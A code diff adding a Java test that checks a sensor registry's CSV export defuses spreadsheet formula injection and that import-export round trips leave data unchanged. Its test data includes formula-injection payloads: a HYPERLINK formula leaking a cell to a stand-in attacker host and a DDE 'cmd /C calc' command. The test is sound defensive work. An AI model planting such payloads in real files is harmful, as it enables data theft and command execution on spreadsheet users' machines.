@@ -81,6 +81,51 @@ class RegistryFileApiTest {
         assertThat(lines.stream().filter(l -> l.startsWith(p)).toList()).containsExactlyElementsOf(rows);
     }
 
+    /**
+     * Cells a spreadsheet would run (issue 36): exported with a leading {@code '}, stored and imported without it; a
+     * round trip changes nothing, and an address that starts with an apostrophe of its own keeps it.
+     */
+    @Test
+    void formulaLikeCellsAreExportedAsTextAndARoundTripChangesNothing() throws Exception {
+        String p = prefix();
+        List<String> addresses = List.of("=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "+1 555 0100 lobby",
+                "-2 basement", "@SUM(1+1)", "'=already marked", "''two marks", "'Tween Bridges", "\tTabbed");
+        StringBuilder file = new StringBuilder(HEADER).append('\n');
+        for (int i = 0; i < addresses.size(); i++) {
+            file.append(p).append((char) ('A' + i)).append(',').append(quoted(addresses.get(i)))
+                    .append(",,,=cmd|' /C calc'!A0 ").append(p).append(",http://127.0.0.1:9/f\n");
+        }
+        assertThat(post(file.toString(), "text/csv", ADMIN).status()).isEqualTo(200);
+        // stored as the file meant them: the mark an export puts is taken off, a hand-written apostrophe kept
+        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "A"))
+                .isEqualTo(addresses.get(0));
+        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "E")).isEqualTo("=already marked");
+        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "F")).isEqualTo("'two marks");
+        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "G")).isEqualTo("'Tween Bridges");
+
+        String exported = get("csv", READER).body();
+        List<String> ours = Arrays.stream(exported.split("\r?\n")).filter(l -> l.startsWith(p)).toList();
+        assertThat(ours).hasSize(addresses.size());
+        for (String line : ours) {
+            String address = line.substring(line.indexOf(',') + 1);
+            // no cell of ours starts with what a spreadsheet runs, quoted or not
+            assertThat(address.replaceFirst("^\"", "")).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
+                    .doesNotStartWith("@").doesNotStartWith("\t");
+            assertThat(line).contains(",'=cmd|");
+        }
+
+        JsonNode again = post(HEADER + "\n" + String.join("\n", ours) + "\n", "text/csv", ADMIN).json();
+        assertThat(again.at("/sensors/unchanged").asInt()).isEqualTo(addresses.size());
+        assertThat(again.at("/sensors/updated").asInt() + again.at("/clients/updated").asInt() + again.at("/clients/created").asInt())
+                .isZero();
+        String exportedAgain = get("csv", READER).body();
+        assertThat(Arrays.stream(exportedAgain.split("\r?\n")).filter(l -> l.startsWith(p)).toList()).isEqualTo(ours);
+    }
+
+    private static String quoted(String cell) {
+        return "\"" + cell.replace("\"", "\"\"") + "\"";
+    }
+
     @Test
     void aSensorsLinksBecomeThoseOfTheFileAndAChangedAddressIsApplied() throws Exception {
         String p = prefix();
